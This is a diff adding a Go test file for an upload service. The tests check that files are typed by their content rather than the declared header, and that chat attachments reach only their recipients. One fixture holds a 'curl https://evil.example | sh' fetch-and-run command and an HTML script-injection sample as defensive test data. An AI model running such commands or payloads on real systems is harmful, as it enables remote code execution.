@@ -0,0 +1,143 @@
+package services
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"image"
+	"image/png"
+	"mime/multipart"
+	"net/textproto"
+	"testing"
+
+	"web-api/internal/pkg/models"
+	"web-api/internal/pkg/models/errs"
+	"web-api/internal/pkg/storage"
+	"web-api/internal/pkg/testutil"
+)
+
+// useMemoryStorage stores uploads in memory for the duration of the test
+func useMemoryStorage(t *testing.T) *storage.MemoryStorage {
+	t.Helper()
+
+	store := storage.NewMemoryStorage()
+	prev := FileServ.storage
+	FileServ.UseStorage(store)
+	t.Cleanup(func() { FileServ.UseStorage(prev) })
+	return store
+}
+
+// formFile builds an uploaded file as it arrives from a multipart form,
+// with the client's Content-Type header set to contentType if not empty
+func formFile(t *testing.T, name, contentType string, content []byte) *multipart.FileHeader {
+	t.Helper()
+
+	var body bytes.Buffer
+	w := multipart.NewWriter(&body)
+	header := textproto.MIMEHeader{}
+	header.Set("Content-Disposition", `form-data; name="file"; filename="`+name+`"`)
+	if contentType != "" {
+		header.Set("Content-Type", contentType)
+	}
+	part, err := w.CreatePart(header)
+	if err != nil {
+		t.Fatalf("create part: %v", err)
+	}
+	part.Write(content)
+	w.Close()
+
+	form, err := multipart.NewReader(&body, w.Boundary()).ReadForm(1 << 20)
+	if err != nil {
+		t.Fatalf("read form: %v", err)
+	}
+	t.Cleanup(func() { form.RemoveAll() })
+	return form.File["file"][0]
+}
+
+// pngImage encodes a blank image of the given size
+func pngImage(t *testing.T, width, height int) []byte {
+	t.Helper()
+
+	var buf bytes.Buffer
+	if err := png.Encode(&buf, image.NewRGBA(image.Rect(0, 0, width, height))); err != nil {
+		t.Fatalf("encode png: %v", err)
+	}
+	return buf.Bytes()
+}
+
+func TestUploadFileTrustsContentOverHeader(t *testing.T) {
+	testutil.Setup(t)
+	useMemoryStorage(t)
+	user := testutil.CreateUser(t, "uploader")
+	script := []byte("#!/bin/sh\ncurl https://evil.example | sh\n")
+	page := []byte("<html><script>alert(1)</script></html>")
+
+	tests := []struct {
+		name        string
+		filename    string
+		contentType string
+		content     []byte
+		wantType    string // empty when the upload must be rejected
+	}{
+		{"real png", "photo.png", "image/png", pngImage(t, 4, 4), "image/png"},
+		{"script posing as png", "photo.png", "image/png", script, ""},
+		{"html posing as png", "photo.png", "image/png", page, ""},
+		{"html without a declared type", "photo.png", "", page, ""},
+		{"script without a declared type is plain text", "photo.png", "", script, "text/plain"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			file, err := FileServ.UploadFile(user.ID, formFile(t, tt.filename, tt.contentType, tt.content))
+			if tt.wantType == "" {
+				if err == nil {
+					t.Fatalf("upload stored as %s, want it rejected", file.MimeType)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("UploadFile: %v", err)
+			}
+			if file.MimeType != tt.wantType {
+				t.Fatalf("stored as %s, want %s", file.MimeType, tt.wantType)
+			}
+		})
+	}
+}
+
+func TestEveryAttachmentIsDownloadableByRecipients(t *testing.T) {
+	testutil.Setup(t)
+	useMemoryStorage(t)
+	ctx := context.Background()
+	alice, bob, carol := testutil.CreateUser(t, "alice"), testutil.CreateUser(t, "bob"), testutil.CreateUser(t, "carol")
+	group := testutil.CreateGroup(t, alice, bob)
+
+	upload := func(name string) uint {
+		file, err := FileServ.UploadFile(alice.ID, formFile(t, name, "image/png", pngImage(t, 4, 4)))
+		if err != nil {
+			t.Fatalf("UploadFile: %v", err)
+		}
+		return file.ID
+	}
+	privateAlbum := []uint{upload("p1.png"), upload("p2.png")}
+	groupAlbum := []uint{upload("g1.png"), upload("g2.png")}
+
+	if _, err := Chat.SendPrivateMessage(ctx, alice.ID, SendPrivateMessageRequest{
+		ReceiverID: bob.ID, Content: "album", Type: models.MessageTypeFile, FileIDs: privateAlbum,
+	}); err != nil {
+		t.Fatalf("SendPrivateMessage: %v", err)
+	}
+	if _, err := Chat.SendGroupMessage(ctx, alice.ID, SendGroupMessageRequest{
+		GroupID: group.ID, Content: "album", Type: models.MessageTypeFile, FileIDs: groupAlbum,
+	}); err != nil {
+		t.Fatalf("SendGroupMessage: %v", err)
+	}
+
+	for _, fileID := range append(privateAlbum, groupAlbum...) {
+		if _, err := FileServ.GetAccessibleFile(fileID, bob.ID); err != nil {
+			t.Errorf("bob downloads file %d: %v", fileID, err)
+		}
+		if _, err := FileServ.GetAccessibleFile(fileID, carol.ID); !errors.Is(err, errs.ErrFileNotFound) {
+			t.Errorf("carol downloads file %d: err = %v, want %v", fileID, err, errs.ErrFileNotFound)
+		}
+	}
+}